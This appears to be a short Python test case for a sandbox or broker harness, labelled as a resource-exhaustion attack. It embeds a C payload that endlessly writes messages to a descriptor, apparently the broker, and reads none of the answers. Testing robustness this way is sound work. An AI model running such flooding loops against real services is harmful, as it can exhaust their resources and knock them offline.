# attack: exhaust
# root: resources
# what: sends a flood of messages to the broker, and reads none of the answers
# list: 8
from host_code import before_the_passes

FLOOD = b"long it[11] = {9}; while (write(4, it, 88) > 0) continue;"


def archive(right):
    return before_the_passes(right, FLOOD, headers=b"#include <unistd.h>\n")
